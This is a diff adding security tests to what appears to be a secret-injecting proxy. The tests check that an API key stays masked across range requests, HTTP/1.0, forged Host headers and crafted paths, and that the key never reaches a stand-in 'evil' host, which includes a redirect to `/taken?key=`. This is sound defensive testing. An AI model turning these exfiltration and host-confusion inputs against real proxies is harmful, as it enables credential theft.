@@ -39,6 +39,12 @@ beforeAll(async () => {
   hosts.api = startHost(tls, ({ headers }) => headers['x-api-key'] === SECRETS.api, ({ path, headers }) => {
     if (path === '/away') return new Response(null, { status: 302, headers: { location: `http://${hosts.evil.name.replace('localhost', '127.0.0.1')}/taken?key=${SECRETS.api}` } })
     if (path === '/within') return new Response(null, { status: 302, headers: { location: '/echo' } })
+    // A host that says what it was told, and gives any part of it that is asked for.
+    if (path === '/parts') {
+      const said = `told: ${headers['x-api-key'] ?? ''} end`
+      const [, from, to] = /^bytes=(\d+)-(\d+)$/.exec(headers['range'] ?? '') ?? []
+      return from === undefined ? new Response(said) : new Response(said.slice(Number(from), Number(to) + 1), { status: 206 })
+    }
     return Response.json({ path, headers }, { headers: { 'x-told': `you said ${headers['x-api-key'] ?? ''}` } })
   })
   hosts.store = startHost(tls, isSigned, ({ method, path, body }) => new Response(`${method} ${path} ${body}`))
@@ -86,6 +92,16 @@ test('a header is put in by the server alone, and what comes back holds no secre
   expect(answer).not.toContain('a=b')
 })
 
+test('what comes back in parts, or to an older HTTP, holds no secret either', async () => {
+  const parts = await inside('for at in 0 8 16 24; do curl -s --noproxy "*" -m 20 -H "If-Range: x" -r $at-$((at+7)) "$BERTH_INJECT_API/parts"; echo; done', null)
+  for (let at = 0; at + 6 <= SECRETS.api.length; at++) expect(parts.stdout).not.toContain(SECRETS.api.slice(at, at + 6))
+  expect(parts.stdout.split('\n')[0]).toBe(`told: ${'*'.repeat(SECRETS.api.length)} end`)
+  const old = await ask('"$BERTH_INJECT_API/parts"', '--http1.0 -D -')
+  expect(old).toContain(`told: ${'*'.repeat(SECRETS.api.length)} end`)
+  for (const host of ['Host;', 'Host: ', `Host: ${hosts.api.name}`, `Host: @${hosts.evil.name}`]) expect(await ask('"$BERTH_INJECT_API/parts"', `--http1.0 -H "${host}"`)).not.toContain(SECRETS.api)
+  expect(hosts.evil.seen.length).toBe(0)
+}, 60_000)
+
 test('no address leads the secret to another host', async () => {
   const before = hosts.evil.seen.length
   const evil = hosts.evil.name.replace('localhost', '127.0.0.1')
@@ -113,6 +129,23 @@ test('a redirect within the host is followed by whoever asked; one to another ho
 test('the secrets are nowhere inside', async () => {
   expect(await secretsFound(inside, ...Object.values(SECRETS))).toEqual([])
 }, 60_000)
+
+test('in a container, as its user and as root, the secrets are nowhere inside, and go to no other host', async () => {
+  await product.cli(['provider', 'setup', 'docker'])
+  for (const words of [['--name', 'boxed'], ['--name', 'rooted', '--sudo']]) await product.cli(['up', '--provider', 'docker', '--agent', 'plain', '--command', 'sleep 100000', ...words, '--no-open', '-y'])
+  const evil = hosts.evil.name.replace('localhost', '127.0.0.1')
+  const before = hosts.evil.seen.length
+  for (const [name, as] of [['boxed', ''], ['rooted', ''], ['rooted', 'sudo -E ']] as const) {
+    const run = (script: string, exit: number | null = 0) => product.cli(['ssh', name, `${as}sh -c '${script.replaceAll("'", `'\\''`)}'`], { exit })
+    const get = async (path: string, more = '') => (await run(`curl -s --noproxy "*" -m 20 --path-as-is ${more} "$BERTH_INJECT_API${path}"`, null)).stdout
+    expect((await run('id -u')).stdout.trim() === '0').toBe(as !== '')
+    expect(await get('/echo')).toContain(`"x-api-key":"${'*'.repeat(SECRETS.api.length)}"`)
+    expect(await get('/away', '-D -')).toContain(`/taken?key=${'*'.repeat(SECRETS.api.length)}`)
+    for (const path of [`//${evil}/x`, `@${evil}/x`, `/\\\\${evil}/x`, `:${evil.split(':')[1]}/x`]) await get(path)
+    expect(await secretsFound(run, ...Object.values(SECRETS))).toEqual([])
+  }
+  expect(hosts.evil.seen.length).toBe(before)
+}, 240_000)
 
 test('without the rule nobody is let in', async () => {
   await product.cli(['inject', 'remove', 'npm'])
